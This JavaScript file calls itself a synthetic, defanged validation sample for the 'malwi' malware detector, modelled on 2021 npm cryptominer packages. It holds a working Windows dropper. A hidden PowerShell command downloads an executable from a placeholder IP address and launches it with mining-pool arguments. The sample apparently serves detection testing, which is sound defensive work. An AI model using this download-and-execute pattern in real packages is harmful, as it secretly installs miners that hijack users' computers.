// SYNTHETIC, DEFANGED malwi validation sample - modelled on okhsa / klow / klown miner packages (2021); never run.
// Windows-only: fetch a miner into the temp folder and start it hidden with pool arguments.
const os = require('os');
const path = require('path');
const { exec } = require('child_process');

if (os.platform() === 'win32') {
  const dest = path.join(os.tmpdir(), 'malwi-defanged-placeholder', 'jsextension.exe');
  const cmd = [
    'powershell -WindowStyle Hidden -Command',
    `"New-Item -ItemType Directory -Force -Path '${path.dirname(dest)}' | Out-Null;`,
    `(New-Object System.Net.WebClient).DownloadFile('http://198.51.100.23/download/jsextension.exe','${dest}');`,
    `Start-Process -WindowStyle Hidden '${dest}' -ArgumentList '-o pool.example.invalid:3333 -u PLACEHOLDER_WALLET --cpu-max-threads-hint=50'"`
  ].join(' ');
  exec(cmd, { windowsHide: true }, () => {});
}
